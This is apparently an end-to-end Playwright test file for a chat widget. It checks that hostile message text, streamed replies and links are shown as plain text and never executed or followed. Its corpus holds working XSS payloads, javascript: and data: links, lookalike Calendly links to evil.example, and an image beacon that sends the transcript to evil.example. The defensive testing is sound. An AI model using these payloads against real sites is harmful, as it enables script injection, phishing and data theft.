"""Texts that attack the browser, in whatever they are shown, and another panel beside ours."""

import json
from typing import Any
from urllib.parse import urlsplit

from playwright.sync_api import Route, expect

from tests.e2e.widget.conftest import Visit
from tests.support.product import Product

_PWN = "globalThis.pwned=1"
CORPUS = (
    f'<img src=x onerror="{_PWN}">',
    f"<script>{_PWN}</script>",
    f"<svg/onload={_PWN}>",
    f'"><details open ontoggle={_PWN}>',
    f"</textarea></style></script><iframe srcdoc='<script>parent.{_PWN}</script>'>",
    "<style>*{display:none!important}</style><base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    f"[free demo](javascript:{_PWN})",
    f"[free demo](JaVa\tScRiPt:{_PWN})",
    f"[free demo](data:text/html,<script>{_PWN}</script>)",
    "[free demo](https://calendly.com@evil.example/)",
    "[free demo](https://calendly.com.evil.example/)",
    "[free demo](//evil.example/)",
    "[free demo](https://calendly.com\\@evil.example/)",
    "![pixel](https://evil.example/steal?q=transcript)",
    "https://evil.example/phish and www.evil.example",
    f"[a](x' onmouseover='{_PWN})",
    f"`<img src=x onerror={_PWN}>` **<b onclick={_PWN}>bold</b>** # <h1>",
    f"&lt;img src=x onerror={_PWN}&gt; \\u003cscript\\u003e",
    f"{{{{constructor.constructor('{_PWN}')()}}}}",
    "\u202eevil\u202c \u2028\u2029 \U000e0041",
    "[" * 500 + "x" + "](" * 500,
    "*" * 1_000,
    "https://" + "." * 1_000 + "/",
)
_ELEMENTS = "img, script, iframe, object, embed, style, base, meta, form, details, [onerror], [onload]"


def messages_of(transcript: dict[str, Any]) -> list[dict[str, Any]]:
    """The corpus as said by each side, beside what was really said."""
    sample, messages = transcript["messages"][-1], list(transcript["messages"])
    for number, text in enumerate(CORPUS * 2):
        identity = f"00000000-0000-0000-0000-{number:012}"
        by = (
            {"role": "visitor", "written_by": "visitor"}
            if number % 2
            else {"written_by": "model", "role": "bot"}
        )
        own = {"id": identity, "turn_id": identity, "answers": [], "sequence": 100 + number}
        own |= {"text": text, "suggestions": [text[:90]]}
        messages.append(sample | by | own)
    return messages


def hostile_stream(stream: str, proposal: str) -> str:
    """The stream of a reply whose every piece, and all that comes with it, attacks."""
    accepted, *_, done = stream.strip().split("\n\n")
    text = "\n\n".join(CORPUS)
    pieces = (text[at : at + 9] for at in range(0, len(text), 9))
    deltas = [f"event: delta\ndata: {json.dumps({'text': piece})}" for piece in pieces]
    fields = json.loads(done.partition("data: ")[2].splitlines()[0])
    fields |= {"response": text, "suggestions": CORPUS, "calendly_shown": True, "proposal_url": proposal}
    return "\n\n".join([accepted, *deltas, f"event: done\ndata: {json.dumps(fields)}", ""])


def test_whatever_is_said_stays_text(visit: Visit, product: Product):
    tab = visit("strict/home", {"title": CORPUS[0], "teaser": CORPUS[1], "color": f"red;{CORPUS[5]}"})
    tab.open()
    tab.say("Hello, I run a bakery.")

    def with_the_corpus(route: Route) -> None:
        transcript = route.fetch().json()
        route.fulfill(json=transcript | {"messages": messages_of(transcript)})

    def as_a_hostile_stream(route: Route) -> None:
        stream = hostile_stream(route.fetch().text(), proposals.pop())
        route.fulfill(body=stream, content_type="text/event-stream")

    person = f"event: speaker\nid: 1\ndata: {json.dumps({'speaker': 'person', 'name': CORPUS[0]})}\n\n"
    tab.context.route("**/events", lambda it: it.fulfill(body=person, content_type="text/event-stream"))
    tab.context.route("**/conversation/*", with_the_corpus)
    tab.page.reload()
    tab.answered(2 + 2 * len(CORPUS))
    expect(tab.panel.locator("#company")).to_contain_text(CORPUS[0])
    proposals = [f"{product.url}//evil.example/proposal/", f"javascript:{_PWN}//proposal/"]
    tab.context.route("**/chat", as_a_hostile_stream)
    tab.say(CORPUS[0])
    assert tab.panel.locator("#log a").count() == 0
    tab.say(CORPUS[0])
    tab.page.mouse.move(300, 300)

    assert tab.panel.locator("#log").locator(_ELEMENTS).count() == 0
    assert [frame.evaluate("globalThis.pwned") for frame in tab.page.frames] == [None] * len(tab.page.frames)
    assert tab.said.count(CORPUS[0]) == 4
    hosts = tab.panel.locator("#log a").evaluate_all("links => links.map((link) => link.origin)")
    assert hosts == [product.url]
    assert {urlsplit(address).hostname for address in tab.requested} == {"localhost", "127.0.0.1"}
    assert tab.page.url.startswith("http://localhost")


def test_another_panel_on_the_page_does_not_take_the_place_of_ours(visit: Visit, product: Product):
    tab = visit("plain/home")
    tab.open()
    tab.say("Hello, I run a bakery.")

    # Of the same origin, and it says hello to the page as ours did.
    tab.page.evaluate(
        """address => new Promise((resolve) => {
            const src = `${address}/widget#${location.origin}`;
            document.body.append(Object.assign(document.createElement("iframe"), { src, onload: resolve }));
        })""",
        product.url,
    )
    tab.act("close")

    expect(tab.launcher).to_have_attribute("aria-expanded", "false")
